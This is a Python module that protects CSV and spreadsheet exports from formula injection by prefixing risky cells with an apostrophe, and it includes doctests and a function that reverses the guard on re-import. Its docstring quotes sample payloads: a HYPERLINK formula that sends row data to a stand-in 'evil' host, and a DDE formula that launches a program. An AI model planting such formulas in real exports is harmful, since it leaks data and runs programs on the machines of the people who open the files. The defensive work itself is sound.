"""Spreadsheet cells that a spreadsheet never runs as a formula ("CSV injection").

A CSV file dcmaint prints is opened in Excel, WPS or LibreOffice by whoever
asked for it. A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` is
taken there as a formula, and a device's name, a fault message, a customer's
e-mail subject or an imported spare's description is text an outsider chose:
``=HYPERLINK("http://evil/?"&A1,"点击")`` leaks the row, ``=cmd|' /C calc'!A0``
asks to start a program. Tab and carriage return at the start let the same
payload slip past a check of the first character. OWASP's advice
(https://owasp.org/www-community/attacks/CSV_Injection) is followed: such a
cell is written with an apostrophe in front, which every spreadsheet reads
as "this is text".

The full-width forms (``＝＋－＠``) are guarded too: a Chinese or Japanese
input method types them, and spreadsheets with East Asian input settings
turn a leading ``＝`` into a formula as the user edits the cell.

Numbers stay numbers: ``-3`` or ``+1.5e3`` is a number in every spreadsheet,
not a formula, so a negative stock level or a temperature keeps its value.

:func:`unguarded` is the way back: dcmaint's own CSV (``device list
--format csv``) imports again as it is (docs/import.md), so the reader drops
the apostrophe this module put in front of a formula character, and only
that one.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

#: What starts a formula (or smuggles one in) in Excel, WPS and LibreOffice.
FORMULA_STARTS = frozenset("=+-@\t\r＝＋－＠")
#: The text marker spreadsheets read as "the rest is text".
GUARD = "'"
#: A plain number as a spreadsheet reads one: left alone, so that it stays a number.
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def formula_safe(text: str) -> str:
    """``text`` as a CSV or XLSX cell that cannot be a formula: an apostrophe in front of a formula start.

    Text that already starts with apostrophes before a formula start gets one more, so that
    :func:`unguarded` gives back exactly what was written.

    >>> formula_safe("=1+2"), formula_safe("@SUM(A1)"), formula_safe("－1"), formula_safe("PSU 2")
    ("'=1+2", "'@SUM(A1)", "'－1", 'PSU 2')
    >>> formula_safe("-3"), formula_safe("+1.5e3"), formula_safe("-1+1"), formula_safe("'=1")
    ('-3', '+1.5e3', "'-1+1", "''=1")
    """
    return GUARD + text if _formula_like(text.lstrip(GUARD)) else text


def safe_row(values: Iterable[object]) -> list[object]:
    """A row for ``csv.writer.writerow``: each text cell through :func:`formula_safe`, numbers as they are."""
    return [formula_safe(value) if isinstance(value, str) else value for value in values]


def unguarded(text: str) -> str:
    """A cell read back from a CSV file: the apostrophe :func:`formula_safe` added is dropped, nothing else.

    >>> unguarded("'=1+2"), unguarded("''=1"), unguarded("'quoted'"), unguarded("=1+2"), unguarded("'-3")
    ('=1+2', "'=1", "'quoted'", '=1+2', "'-3")
    """
    return text[1:] if text.startswith(GUARD) and _formula_like(text.lstrip(GUARD)) else text


def _formula_like(text: str) -> bool:
    return bool(text) and text[0] in FORMULA_STARTS and not _NUMBER.fullmatch(text)


__all__ = ["FORMULA_STARTS", "GUARD", "formula_safe", "safe_row", "unguarded"]
